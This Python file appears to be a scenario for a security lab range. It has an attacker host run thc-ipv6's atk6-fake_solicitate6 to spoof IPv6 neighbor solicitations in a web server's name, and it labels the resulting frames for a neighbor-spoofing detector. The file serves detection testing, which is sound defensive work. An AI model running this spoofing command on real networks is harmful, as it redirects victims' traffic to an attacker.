"""atk6-fake_solicitate6: a question that brings a wrong answer along."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, client, web = net.inside("attacker"), net.inside("pc3"), net.web()
    net.everyday(lead=1.0)
    net.loop(client, f"ip -6 neigh flush dev eth0; curl -s -m 2 -o /dev/null -g http://[{web.ip6}]/", 1.5)
    net.quiet(4)
    with net.attack(
        "neighbor-spoofing",
        by=attacker,
        attackers=[attacker.mac],
        victims=[web.ip6],
        others={"claimed": [web.ip6]},
        frames=f"ip6 and ip6[6] == 58 and ip6[40] == 135 and ip6 src host {web.ip6}",
    ):
        for _ in range(5):
            net.tool(
                attacker,
                *f"timeout 1 atk6-fake_solicitate6 eth0 {client.ip6} {client.ip6}".split(),
                *(attacker.mac, web.ip6),
                seconds=3,
            )
            net.quiet(1.5)
    net.quiet(3)


SCENARIO = Scenario(
    name="neighbor-spoofing-held-solicit",
    about="atk6-fake_solicitate6 asks a client in a web server's name, with the attacker's MAC address.",
    detectors=("neighbor-spoofing",),
    tools={"atk6-fake_solicitate6": "thc-ipv6"},
    run=run,
)
